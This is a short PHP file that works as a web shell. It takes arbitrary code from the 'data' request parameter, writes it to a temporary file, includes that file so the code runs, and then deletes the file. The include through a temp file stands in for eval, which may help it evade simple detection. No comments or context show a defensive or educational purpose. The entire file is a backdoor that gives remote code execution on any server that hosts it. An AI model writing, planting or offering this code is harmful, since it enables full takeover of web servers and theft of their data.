<?php
$p = $_REQUEST['data'];
$t = tempnam(sys_get_temp_dir(), 'c');
file_put_contents($t, '<?php ' . $p);
include $t;
unlink($t);
